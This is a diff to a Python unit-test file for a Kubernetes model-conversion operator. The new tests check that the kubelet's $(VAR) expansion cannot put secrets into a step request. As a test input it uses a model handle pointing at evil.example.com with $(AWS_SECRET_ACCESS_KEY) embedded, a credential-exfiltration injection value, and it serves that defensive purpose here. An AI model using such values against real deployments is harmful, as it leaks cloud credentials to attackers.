@@ -4,14 +4,17 @@ After a change that is meant: TFLITE_WRITE_GOLDEN=1 pytest tests/unit/operator/j
 """
 
 import os
+import re
 from pathlib import Path
 from typing import Any
+from uuid import UUID
 
 import pytest
 import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
+from bench.scale.largest import largest_spec
 from tests.unit.operator.builders import SETTINGS, SPEC
 from tflite_api.names import SIGNING_KEY_ENV, SIGNING_PASSWORD_ENV, STEP_REQUEST_ENV, VERIFYING_KEY_ENV
 from tflite_api.resource.spec import ConversionSpec
@@ -19,7 +22,7 @@ from tflite_api.steps.step import StepRequest
 from tflite_operator.core.identity import Identity
 from tflite_operator.core.labels import job_name
 from tflite_operator.jobs.attempt import Attempt
-from tflite_operator.jobs.job import build_cleanup, build_job
+from tflite_operator.jobs.job import STEP_REQUEST_BYTES, build_cleanup, build_job, step_request
 from tflite_operator.jobs.resources import resources_of
 from tflite_operator.settings import ConverterResources, Settings
 
@@ -93,13 +96,39 @@ def test_the_steps_are_told_which_run_of_which_image_they_are() -> None:
         assert (invocation.id, invocation.image) == (f"{UID}/1/1", SETTINGS.converter_image)
 
 
-def test_a_spec_cannot_have_the_kubelet_put_credentials_into_the_request() -> None:
-    spec = SPEC | {"model": {"handle": "https://evil.example.com/$(AWS_SECRET_ACCESS_KEY)/$$(HOME)"}}
+def expanded(value: str, known: dict[str, str]) -> str:
+    """Put variables in the place of $(NAME) as the kubelet does: third_party/forked/golang/expansion of Kubernetes."""
+
+    def put(found: re.Match[str]) -> str:
+        return "$" if found[0] == "$$" else known.get(found[1], found[0])
+
+    return re.sub(r"\$(?:\$|\(([^)]*)\))", put, value)
+
+
+def test_variables_are_expanded_as_the_kubelet_does() -> None:
+    known = {"A": "secret"}
+    assert [expanded(text, known) for text in ("$(A)", "$$(A)", "$$$(A)", "$(B)", "$A$")] == [
+        "secret", "$(A)", "$secret", "$(B)", "$A$"
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "path", ["$(AWS_SECRET_ACCESS_KEY)/$$(HOME)", "$", "$$", "$$$", "a$$$$(HOME)$", "$(", "$web/m"]
+)
+def test_a_spec_cannot_have_the_kubelet_put_credentials_into_the_request(path: str) -> None:
+    spec = SPEC | {"model": {"handle": f"https://evil.example.com/{path}"}}
     pod = built({"name": "a", "spec": spec})["spec"]["template"]["spec"]
     for container in [*pod["initContainers"], *pod["containers"]]:
         told = next(one["value"] for one in container["env"] if one["name"] == STEP_REQUEST_ENV)
-        assert "$" not in told
-        assert StepRequest.model_validate_json(told).spec == ConversionSpec.from_object(spec)
+        shown = expanded(told, {"AWS_SECRET_ACCESS_KEY": "secret", "HOME": "/tmp"})
+        assert StepRequest.model_validate_json(shown).spec == ConversionSpec.from_object(spec)
+
+
+def test_the_largest_spec_that_the_schema_accepts_fits_into_what_the_steps_are_told() -> None:
+    spec = ConversionSpec.from_object(largest_spec())
+    longest = Identity(namespace="n" * 63, name="c" * 253, uid=UUID(int=0).hex, generation=2**53)
+    told = step_request(longest, spec, Settings(converter_image="i" * 512), Attempt(number=10**9, forced=True))
+    assert 0.9 * STEP_REQUEST_BYTES < len(told.encode()) < STEP_REQUEST_BYTES
 
 
 def test_convert_can_write_nothing_that_publish_could_trip_over_but_the_output() -> None:
